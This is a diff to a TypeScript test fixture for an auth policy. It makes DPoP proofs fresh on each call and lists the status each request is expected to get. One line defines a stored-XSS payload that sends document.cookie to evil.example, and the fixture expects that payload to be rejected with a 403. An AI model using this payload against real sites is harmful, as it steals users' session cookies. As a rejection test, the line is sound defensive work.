@@ -12,7 +12,8 @@ export interface RichPolicy {
   readonly keys: KeyServer;
   /** Is let in once a worker has that issuer's keys. */
   readonly byFetchedKey: Ask;
-  readonly visits: readonly (readonly [Ask, status: number, reason: string])[];
+  /** What becomes of each: status and public reason. Proofs are of now. */
+  visits(): Promise<readonly (readonly [Ask, status: number, reason: string])[]>;
 }
 
 const tillKey = "4d1c8f0e-till-7";
@@ -76,7 +77,7 @@ export async function makeRichPolicy(): Promise<RichPolicy> {
   const bound = await shop.token("ES256", "x", {
     claims: { cnf: { jkt: dpop.thumbprint }, acr: "phr", auth_time: Math.floor(Date.now() / 1000) },
   });
-  const proof = await dpop.proof("GET", "https://stock.example/ledger/1", bound);
+  const proof = () => dpop.proof("GET", "https://stock.example/ledger/1", bound);
   const reader = (claims: object) => shop.token("RS256", "stock:read", { claims: { level: 3, ...claims } });
   const shelf = "/shelves/7";
   const attack = JSON.stringify({ note: "<script>fetch('//evil.example/?c='+document.cookie)</script>" });
@@ -85,7 +86,7 @@ export async function makeRichPolicy(): Promise<RichPolicy> {
     place,
     keys,
     byFetchedKey,
-    visits: [
+    visits: async () => [
       [{ path: "/alive" }, 200, "ok"],
       [{ path: shelf }, 401, "unauthenticated"],
       [{ path: shelf, token: await reader({}) }, 200, "ok"],
@@ -102,7 +103,7 @@ export async function makeRichPolicy(): Promise<RichPolicy> {
       [{ path: shelf, headers: { "x-till-key": tillKey } }, 200, "ok"],
       [{ path: shelf, headers: { "x-till-key": "guessed" } }, 401, "unauthenticated"],
       [{ path: "/ledger/1", token: bound }, 401, "unauthenticated"],
-      [{ path: "/ledger/1", headers: { authorization: `DPoP ${bound}`, dpop: proof } }, 200, "ok"],
+      [{ path: "/ledger/1", headers: { authorization: `DPoP ${bound}`, dpop: await proof() } }, 200, "ok"],
       [{ path: "/live?q=tea" }, 200, "ok"],
       [{ path: "/notes/a", body: JSON.stringify({ note: "two boxes, please" }) }, 200, "ok"],
       [{ path: "/notes/a", body: attack }, 403, "request_rejected"],
